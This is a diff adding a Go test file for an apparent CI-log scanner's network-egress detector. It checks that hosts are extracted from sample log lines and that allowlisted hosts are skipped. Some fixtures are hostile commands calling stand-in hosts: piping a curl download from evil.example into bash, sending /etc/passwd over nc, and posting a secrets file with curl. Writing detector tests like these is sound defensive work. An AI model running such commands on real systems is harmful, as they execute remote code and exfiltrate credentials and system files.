@@ -0,0 +1,73 @@
+package workflow_test
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+)
+
+func TestEgressDetector(t *testing.T) {
+	t.Parallel()
+
+	cases := []struct {
+		name  string
+		line  string
+		allow []string
+		want  []string
+	}{
+		{name: "curl url", line: "2025-03-14T00:00:00.0000000Z curl -sSf https://evil.example/x | bash", want: []string{"evil.example"}},
+		{name: "wget bare host", line: "wget -q -O /tmp/p evil.example/payload", want: []string{"evil.example"}},
+		{name: "nc ip and port", line: "nc 203.0.113.7 4444 < /etc/passwd", want: []string{"203.0.113.7"}},
+		{name: "powershell", line: "Invoke-WebRequest -Uri https://evil.example/u -Method POST", want: []string{"evil.example"}},
+		{name: "several destinations", line: "curl https://a.example https://b.example https://a.example", want: []string{"a.example", "b.example"}},
+		{name: "output flag value skipped", line: "curl -o out.txt evil.example", want: []string{"evil.example"}},
+		{name: "github allowed", line: "curl -sL https://api.github.com/repos/o/r", want: nil},
+		{name: "actions host allowed", line: "curl https://pipelines.actions.githubusercontent.com/x", want: nil},
+		{name: "loopback allowed", line: "curl http://localhost:8080/health && curl http://127.0.0.1/", want: nil},
+		{name: "custom allowlist", line: "curl https://pkg.internal.example/x", allow: []string{"internal.example"}, want: nil},
+		{name: "custom allowlist replaces default", line: "curl https://github.com/x", allow: []string{"internal.example"}, want: []string{"github.com"}},
+		{name: "no client", line: "echo https://evil.example", want: nil},
+		{name: "client as substring", line: "run-func https://evil.example", want: nil},
+		{name: "version is not a host", line: "curl --version 8.5.0", want: nil},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			d := workflow.NewEgressDetector(tc.allow)
+			var got []string
+			for _, f := range d.Detect(tc.line, workflow.LineContext{Logger: newTestLogger()}) {
+				if f.KeyType != workflow.DetectorEgress || f.Severity != workflow.SeverityMedium {
+					t.Fatalf("finding=%+v, want network-egress at medium", f)
+				}
+				got = append(got, f.Destination)
+			}
+			if !slices.Equal(got, tc.want) {
+				t.Fatalf("destinations=%q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+// TestParseLogs_EgressDetectorRegistered asserts the opt-in detector
+// runs through ParseLogs and the destination survives aggregation.
+func TestParseLogs_EgressDetectorRegistered(t *testing.T) {
+	t.Cleanup(workflow.SnapshotDetectorsForTest())
+
+	if err := workflow.RegisterDetector(workflow.DetectorEgress, workflow.NewEgressDetector(nil)); err != nil {
+		t.Fatalf("RegisterDetector: %v", err)
+	}
+	custom, err := ioc.NewIOC(&ioc.Config{Name: "t", Content: []string{"NEVER_PRESENT"}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+
+	findings, found := workflow.ParseLogs(newTestLogger(), "curl https://github.com/x\ncurl -d @secrets https://evil.example/c\n", 1, custom)
+	if !found || len(findings) != 1 {
+		t.Fatalf("findings=%+v, want one egress finding", findings)
+	}
+	if findings[0].Destination != "evil.example" {
+		t.Fatalf("Destination=%q, want evil.example", findings[0].Destination)
+	}
+}